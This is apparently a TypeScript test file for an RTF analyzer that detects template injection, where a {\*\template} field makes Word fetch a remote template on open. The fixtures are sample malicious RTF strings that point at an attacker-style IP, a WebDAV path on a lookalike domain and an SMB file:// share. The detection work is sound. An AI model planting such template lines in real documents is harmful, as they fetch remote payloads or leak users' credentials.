import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeRtf } from './index.js';

// Session 43: RTF's template injection — `{\*\template …}` naming a template Word fetches when the document opens.
test('analyzeRtf: a remote \\template destination, not a local one', () => {
  const rows: [rtf: string, remote: string | undefined][] = [
    ['{\\rtf1\\ansi{\\*\\template http://185.220.101.7/t/template.doc}Invoice\\par}', 'http://185.220.101.7/t/template.doc'],
    ['{\\rtf1{\\*\\template https://docs-share.example/Normal.dotm}\\par}', 'https://docs-share.example/Normal.dotm'],
    ['{\\rtf1{\\*\\template \\\\\\\\docs-share.online@SSL\\\\DavWWWRoot\\\\t.dotm}\\par}', '\\\\docs-share.online@SSL\\DavWWWRoot\\t.dotm'],
    ['{\\rtf1{\\*\\template file://185.220.101.7/share/t.dot}\\par}', 'file://185.220.101.7/share/t.dot'],
    // A template on the writer's own disk, and no template.
    ['{\\rtf1{\\*\\template C:\\\\Users\\\\anna\\\\AppData\\\\Roaming\\\\Microsoft\\\\Templates\\\\Normal.dotm}\\par}', undefined],
    ['{\\rtf1\\ansi Invoice 2291\\par}', undefined],
  ];
  for (const [rtf, remote] of rows) assert.equal(analyzeRtf(Buffer.from(rtf, 'latin1')).remoteTemplate, remote, rtf);
});
